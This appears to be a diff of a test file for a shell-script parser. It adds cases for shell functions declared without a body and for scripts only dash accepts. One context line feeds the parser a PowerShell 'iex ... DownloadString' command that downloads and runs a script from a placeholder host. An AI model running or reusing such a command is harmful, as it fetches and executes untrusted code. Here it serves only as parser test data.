@@ -40,6 +40,13 @@ const broken: readonly (readonly [text: string, reason: string, from: string])[]
   ['a 2>&', 'a redirection has no target', '&'],
   ['for ; do a; done', 'a word is missing', '; do a; done'],
   ['echo ${a', 'an expansion is not closed', '${a'],
+  ['f()', 'a function has no body', ')'],
+  ['f() && f', 'a function has no body', ' f'],
+  ['f(); f', 'a function has no body', ' f'],
+  ['f() | a', 'a function has no body', ' a'],
+  ['f() & a', 'a function has no body', ' a'],
+  ['(f())', 'a function has no body', ')'],
+  ['a; f() # b', 'a function has no body', 'b'],
 ];
 
 /** The same for texts that only bash would accept if they were complete. */
@@ -65,6 +72,8 @@ const sound = [
   'if a; then b; elif c; then d; else e; fi',
   'for i in a b; do case $i in a) c ;; *) d ;; esac; done',
   'f() { a; }; f | (b; c) > d 2>&1',
+  'f()\n{\n  a\n}\nf',
+  'f() (a); g() if a; then b; fi',
   'cat <<A\nit\'s "\nA\n',
   'sh -c \'echo "a"\'',
 ];
@@ -108,8 +117,10 @@ describe('a script that no shell accepts', () => {
     assert.equal(text.slice(fault?.span.start), ';; b > ; c "');
   });
 
-  it('is not reported if dash accepts it, though bash does not', () =>
-    assert.equal(read('f() a; f').fault, undefined));
+  it('is not reported if dash accepts it, though bash does not', () => {
+    for (const text of ['f() a; f', 'f() "a"', 'f() A=1 a', 'f()a'])
+      assert.equal(read(text).fault, undefined, text);
+  });
 
   it('is read as PowerShell if it looks like it: the image has installed that shell', () => {
     const script = read("iex ((new-object net.webclient).DownloadString('https://x.test/a.ps1')); b $env:C");
